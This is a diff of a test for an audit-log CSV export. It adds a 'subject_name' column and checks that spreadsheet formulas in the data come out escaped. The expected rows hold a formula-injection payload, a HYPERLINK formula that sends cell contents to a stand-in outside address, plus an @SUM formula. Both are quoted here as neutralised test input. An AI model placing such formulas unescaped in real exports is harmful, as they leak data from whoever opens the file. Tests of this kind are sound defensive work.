@@ -57,10 +57,12 @@ it('as CSV has a header, and nothing that a spreadsheet takes for a formula', as
   const { headers, text } = await download('?format=csv');
   expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
   const [header, ...rows] = rowsOf(text);
-  expect(header).toBe('"at","by","key","via","action","subject","outcome","request_id","address","client","count"');
+  expect(header).toBe(
+    '"at","by","key","via","action","subject","outcome","request_id","address","client","count","subject_name"',
+  );
   expect(rows).toHaveLength((await entries()).length);
-  expect(text).toContain(`,"127.0.0.1","'=HYPERLINK(""http://192.0.2.1/?""&A1)",1\r\n`);
-  expect(text).toContain(`,,"'@SUM(1)",1\r\n`);
+  expect(text).toContain(`,"127.0.0.1","'=HYPERLINK(""http://192.0.2.1/?""&A1)",1,\r\n`);
+  expect(text).toContain(`,,"'@SUM(1)",1,\r\n`);
 });
 
 it('has a range of time and the filters of the list', async () => {
